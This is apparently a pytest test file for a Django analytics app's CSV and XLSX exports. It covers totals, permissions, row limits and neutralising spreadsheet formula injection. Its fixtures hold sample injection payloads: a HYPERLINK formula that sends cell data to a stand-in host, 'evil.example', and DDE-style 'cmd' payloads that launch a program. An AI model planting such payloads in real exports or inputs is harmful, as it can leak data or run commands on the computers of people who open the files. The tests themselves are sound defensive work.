"""Every analytics table exports to CSV (streamed) and XLSX, read back here."""

from __future__ import annotations

import csv
import io
from decimal import Decimal
from typing import Any

import openpyxl  # type: ignore[import-untyped]
import pytest
import tablib  # type: ignore[import-untyped]
import time_machine
from django.http import StreamingHttpResponse

from chorus.analytics.exports import TABLES, csv_cell
from chorus.analytics.models import DailyShareStats
from chorus.analytics.selectors.dashboard import OTHER_GROUP
from chorus.analytics.selectors.rankings import NOT_RANKED
from chorus.analytics.tests.test_dashboard import build_world, coarse_rollups, value_settings
from chorus.core.tenancy import no_organization
from chorus.factories import DailyShareStatsFactory

PERIOD = {"date_from": "2026-03-02", "date_to": "2026-03-31"}


@pytest.fixture
def world(organization: Any) -> Any:
    return build_world(organization)


def csv_rows(response: Any) -> list[list[str]]:
    assert isinstance(response, StreamingHttpResponse)
    # Read as the server sends it: after the request, and its organization scope, ended.
    with no_organization():
        text = b"".join(response.streaming_content).decode()  # type: ignore[arg-type]
    return list(csv.reader(io.StringIO(text)))


def xlsx_rows(response: Any) -> list[list[Any]]:
    workbook = openpyxl.load_workbook(io.BytesIO(response.content))
    return [list(row) for row in workbook.active.iter_rows(values_only=True)]


def export(client: Any, table: str, format: str) -> Any:
    return client.get("/analytics/export/", {**PERIOD, "table": table, "format": format})


def test_every_table_exports_to_csv_and_xlsx(client, world):
    client.force_login(world.ada.user)
    for table in TABLES:
        for format in ("csv", "xlsx"):
            response = export(client, table, format)
            assert response.status_code == 200, (table, format)
            assert (
                f'filename="analytics-{table}-2026-03-02-2026-03-31.{format}"'
                in (response["Content-Disposition"])
            )


def test_csv_export_streams_the_figures(client, world):
    value_settings(world.organization)
    client.force_login(world.ada.user)
    totals = csv_rows(export(client, "totals", "csv"))
    assert totals[0] == ["figure", "this period", "previous period", "change % / formula"]
    assert ["Clicks", "128", "50", "156.0"] in totals
    # 50 x 0.50 + 5 x 0.10 + 200 / 1000 x 5.00 = 26.50 before.
    assert totals[-1][:3] == ["Earned media value (EUR)", "77.85", "26.50"]
    groups = csv_rows(export(client, "groups", "csv"))
    assert groups[1:] == [
        ["Sales", "5", "4", "120", "26", "3", "60.0", "2026-03-31"],
        [OTHER_GROUP, "2", "1", "5", "1", "1", "50.0", "2026-03-31"],
    ]


def test_xlsx_export_reads_back(client, world):
    client.force_login(world.ada.user)
    rows = xlsx_rows(export(client, "members", "xlsx"))
    assert rows[0] == ["member", "shares", "clicks", "engagement", "potential reach"]
    assert rows[1:] == [
        [NOT_RANKED, 2, 60, 8, 1000],
        ["Bob", 1, 40, 13, 300],
        ["Cleo", 1, 20, 5, 100],
        ["Fay", 1, 5, 1, 50],
    ]
    data = tablib.Dataset().load(export(client, "networks", "xlsx").content, format="xlsx")
    assert data.headers[:3] == ["network", "shares", "clicks"]
    assert [row[:3] for row in data] == [("LinkedIn", 3, 103), ("X", 1, 20), ("Mastodon", 1, 5)]


def test_every_row_export_names_only_ranked_members(client, world):
    client.force_login(world.ada.user)
    rows = csv_rows(export(client, "rows", "csv"))
    assert rows[0][:6] == ["day", "post id", "post", "member", "network", "campaign"]
    members = [row[3] for row in rows[1:]]
    assert members == ["Bob", "Cleo", "", NOT_RANKED, "Fay"]
    assert sum(int(row[7]) for row in rows[1:]) == 128  # clicks, self-clicks excluded
    assert "Dan" not in "".join(",".join(row) for row in rows)


def test_a_member_exports_their_own_figures(client, world):
    client.force_login(world.dan.user)
    with time_machine.travel("2026-03-31 12:00:00+00:00", tick=False):
        rows = csv_rows(client.get("/analytics/me/export/", {"format": "csv"}))
        xlsx = xlsx_rows(client.get("/analytics/me/export/", {"format": "xlsx"}))
    assert rows[1][:7] == ["2026-03-20", str(world.hiring.pk), "Hiring", "linkedin", "", "2", "60"]
    assert len(rows) == 2
    assert xlsx[1][:7] == ["2026-03-20", world.hiring.pk, "Hiring", "linkedin", None, 2, 60]


def test_post_export(client, world):
    client.force_login(world.ada.user)
    rows = csv_rows(client.get(f"/analytics/posts/{world.launch.pk}/export/"))
    assert rows[1:] == [
        ["all networks", "7", "4", "113", "23"],
        ["LinkedIn", "", "3", "93", "18"],
        ["X", "", "1", "20", "5"],
    ]


def test_bad_export_requests_are_a_clear_400(client, world):
    client.force_login(world.ada.user)
    response = export(client, "secrets", "csv")
    assert response.status_code == 400
    assert response.content.decode().startswith("Unknown table")
    response = export(client, "totals", "pdf")
    assert (response.status_code, response.content) == (400, b"The format must be csv or xlsx.")
    response = client.get("/analytics/export/", {"table": "daily", "date_from": "2026-99-01"})
    assert response.status_code == 400


def test_employees_may_not_export_program_tables(client, world):
    client.force_login(world.bob.user)
    assert export(client, "rows", "csv").status_code == 403


def test_too_many_rows_for_xlsx_are_refused_with_a_reason(client, world, monkeypatch):
    monkeypatch.setattr("chorus.analytics.exports.XLSX_MAX_ROWS", 4)
    client.force_login(world.ada.user)
    response = export(client, "rows", "xlsx")
    assert response.status_code == 400
    assert response.content.decode() == (
        "5 rows are too many for XLSX: export them as CSV, or a shorter range."
    )
    assert export(client, "rows", "csv").status_code == 200


# -- formula injection ------------------------------------------------------------------

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Click me")'
COMMAND = "+cmd|' /C calc'!A0"
CAMPAIGN = "@SUM(1)"
MINUS = "-2+3+cmd|' /C calc'!A0"
TAB = "\t=1+2"
RETURN = "\r=1+2"


@pytest.fixture
def hostile_world(world: Any) -> Any:
    """The world with formula-like names, titles, a campaign and a group; and a figure
    that fell (a negative change)."""
    for member, name in ((world.bob, HYPERLINK), (world.cleo, MINUS)):
        member.user.name = name
        member.user.save(update_fields=["name"])
    world.launch.title = COMMAND
    world.launch.save(update_fields=["title"])
    world.hiring.title = TAB
    world.hiring.save(update_fields=["title"])
    world.sales.name = RETURN
    world.sales.save(update_fields=["name"])
    DailyShareStats.objects.filter(organization=world.organization).update(campaign=CAMPAIGN)
    # 3 replies this period against 50 before: -94.0 %.
    DailyShareStatsFactory(
        post=world.launch, membership=world.bob, network="linkedin", day="2026-02-16", replies=50
    )
    coarse_rollups()
    return world


def xlsx_cells(response: Any) -> list[Any]:
    workbook = openpyxl.load_workbook(io.BytesIO(response.content))
    return [cell for row in workbook.active.iter_rows() for cell in row]


def test_csv_exports_show_formula_like_text_as_text(client, hostile_world):
    client.force_login(hostile_world.ada.user)
    members = csv_rows(export(client, "members", "csv"))
    assert ["'" + HYPERLINK, "1", "40", "13", "300"] in members
    assert ["'" + MINUS, "1", "20", "5", "100"] in members
    posts = [row[0] for row in csv_rows(export(client, "posts", "csv"))[1:]]
    assert sorted(posts) == sorted(["'" + COMMAND, "'" + TAB])
    groups = csv_rows(export(client, "groups", "csv"))
    assert groups[1][0] == "'" + RETURN
    every_row = csv_rows(export(client, "rows", "csv"))
    assert {row[2] for row in every_row[1:]} == {"'" + COMMAND, "'" + TAB}
    assert {row[5] for row in every_row[1:]} == {"'" + CAMPAIGN}
    assert "'" + HYPERLINK in {row[3] for row in every_row[1:]}
    # Normal CSV quoting still applies around the quote.
    raw = b"".join(export(client, "members", "csv").streaming_content).decode()
    assert '"\'=HYPERLINK(""http://evil.example/?""&A1,""Click me"")"' in raw
    # Numbers, negative ones too, are not text and stay as they are.
    totals = csv_rows(export(client, "totals", "csv"))
    assert ["Replies", "3", "50", "-94.0"] in totals


def test_xlsx_exports_write_formula_like_text_as_text_cells(client, hostile_world):
    client.force_login(hostile_world.ada.user)
    cells = []
    for table in ("members", "posts", "groups", "rows", "totals"):
        cells += xlsx_cells(export(client, table, "xlsx"))
    assert not [cell.value for cell in cells if cell.data_type == "f"]
    text = {cell.value for cell in cells if cell.data_type == "s"}
    assert {HYPERLINK, MINUS, COMMAND, TAB, RETURN, CAMPAIGN} <= text
    change = [cell for cell in cells if cell.value == -94.0]
    assert [cell.data_type for cell in change] == ["n"]


def test_a_members_own_export_shows_formula_like_text_as_text(client, hostile_world):
    client.force_login(hostile_world.dan.user)
    with time_machine.travel("2026-03-31 12:00:00+00:00", tick=False):
        rows = csv_rows(client.get("/analytics/me/export/", {"format": "csv"}))
        cells = xlsx_cells(client.get("/analytics/me/export/", {"format": "xlsx"}))
    assert rows[1][2:5] == ["'" + TAB, "linkedin", "'" + CAMPAIGN]
    assert not [cell.value for cell in cells if cell.data_type == "f"]
    assert {(cell.value, cell.data_type) for cell in cells} >= {(TAB, "s"), (CAMPAIGN, "s")}


def test_formula_like_text_is_neutralised_and_numbers_are_not():
    assert csv_cell("=1+2") == "'=1+2"
    assert [csv_cell(value) for value in ("+1", "-1", "@a", "\ta", "\ra")] == [
        "'+1",
        "'-1",
        "'@a",
        "'\ta",
        "'\ra",
    ]
    assert [csv_cell(value) for value in (-5, -2.5, Decimal("-1.50"), None, "a=1")] == [
        -5,
        -2.5,
        Decimal("-1.50"),
        "",
        "a=1",
    ]


def test_xlsx_export_drops_control_characters_a_spreadsheet_cannot_hold(client, world):
    world.launch.title = "Launch\x07 day\x1b"
    world.launch.save(update_fields=["title"])
    client.force_login(world.ada.user)
    response = export(client, "posts", "xlsx")
    assert response.status_code == 200
    assert "Launch day" in [row[0] for row in xlsx_rows(response)]
    assert "Launch\x07 day\x1b" in [row[0] for row in csv_rows(export(client, "posts", "csv"))]
